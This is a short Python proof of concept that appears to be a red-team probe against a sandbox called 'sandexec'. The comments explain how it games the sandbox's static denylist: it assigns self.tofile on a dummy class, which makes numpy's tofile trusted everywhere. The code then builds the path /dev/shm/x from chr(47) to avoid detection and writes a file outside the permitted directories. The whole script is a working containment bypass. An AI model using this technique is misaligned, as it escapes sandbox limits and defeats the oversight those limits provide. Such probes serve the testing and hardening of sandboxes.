# source: sandexec README, "The static check", "an attribute in the generic denylist is accepted wherever the script assigns it on self"; numpy ndarray.tofile(fid) opens any path for writing
# family: the script's own attribute names: a class that assigns self.tofile makes .tofile trusted on every object, a real ndarray included
# goal: write files outside /data and the script's directory (/dev/shm/x) with paths built at run time
import numpy as np


class Exporter:
    def __init__(self):
        self.tofile = None


s = chr(47)
target = s + "dev" + s + "shm" + s + "x"
payload = np.frombuffer(b"written outside the sandbox paths\n", dtype=np.uint8)
payload.tofile(target)
try:
    payload.tofile(target + s + "child")
except OSError as e:
    print("proof that", target, "is now a file:", type(e).__name__, e.strerror)
